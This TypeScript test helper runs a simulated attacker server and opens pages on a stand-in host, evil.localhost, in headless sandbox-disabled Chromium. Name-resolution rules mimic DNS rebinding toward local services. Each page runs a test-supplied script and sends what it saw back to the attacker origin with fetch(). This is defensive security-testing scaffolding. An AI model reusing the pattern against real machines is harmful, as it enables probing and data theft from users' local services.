import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';

/** For tests only: an attacker's pages, opened in Chromium. */

/** Time for the report of a page: attacks take a second or two on a quiet machine. */
const REPORT_LIMIT_MS = 45_000;
const NAMES = ['chromium', 'chromium-browser', 'google-chrome'];

/** Path of Chromium; undefined if it is not installed. */
export const CHROMIUM = (process.env['PATH'] ?? '')
  .split(delimiter)
  .flatMap((folder) => NAMES.map((name) => join(folder, name)))
  .find(existsSync);

/** An attacker's server. Each of its pages reports when its script has ended. */
export class Attacker {
  readonly #server: Server;
  readonly #reports = new Map<string, (report: string) => void>();
  #page = '';

  private constructor(server: Server) {
    this.#server = server;
  }

  static async start(): Promise<Attacker> {
    const server = createServer();
    const attacker = new Attacker(server);
    server.on('request', (request, response) => {
      const { pathname, searchParams } = new URL(request.url ?? '/', 'http://attacker.test');
      if (pathname === '/report') attacker.#reports.get('page')?.(searchParams.get('saw') ?? '');
      response.writeHead(200, { 'Content-Type': 'text/html', 'Cache-Control': 'no-store' }).end(attacker.#page);
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    return attacker;
  }

  get port(): number {
    return (this.#server.address() as AddressInfo).port;
  }

  /**
   * Opens a page of evil.localhost with this script in a fresh browser, and returns the result of the script. Every
   * name below `test` leads to this machine in that browser, like a name that rebinds. The result is empty if the page
   * does not report in time, so that no browser is left behind.
   */
  async attack(chromium: string, script: string): Promise<string> {
    const origin = `http://evil.localhost:${this.port}`;
    const report = `.then(String, String).then((saw) => fetch('${origin}/report?saw=' + encodeURIComponent(saw)))`;
    this.#page = `<!doctype html><body><script>(async () => { ${script} })()${report}</script>`;
    const saw = new Promise<string>((resolve) => this.#reports.set('page', resolve));
    const profile = mkdtempSync(join(tmpdir(), 'routespec-browser-'));
    const rules = `--host-resolver-rules=MAP *.test 127.0.0.1, MAP *.localhost 127.0.0.1`;
    const flags = ['--headless=new', '--no-sandbox', '--disable-gpu', '--no-first-run', `--user-data-dir=${profile}`];
    const browser = spawn(chromium, [...flags, rules, '--remote-debugging-port=0', `${origin}/`], {
      stdio: 'ignore',
      detached: true,
    });
    const timer = setTimeout(() => this.#reports.get('page')?.(''), REPORT_LIMIT_MS);
    try {
      return await saw;
    } finally {
      clearTimeout(timer);
      await ended(browser);
      rmSync(profile, { recursive: true, force: true, maxRetries: 20, retryDelay: 100 });
    }
  }

  async close(): Promise<void> {
    this.#server.close();
    this.#server.closeAllConnections();
    await Promise.resolve();
  }
}

async function ended(browser: ChildProcess): Promise<void> {
  const exit = once(browser, 'exit');
  // The many processes of Chromium, which all write to its profile, form one group.
  if (browser.pid !== undefined) process.kill(-browser.pid, 'SIGKILL');
  await exit;
}
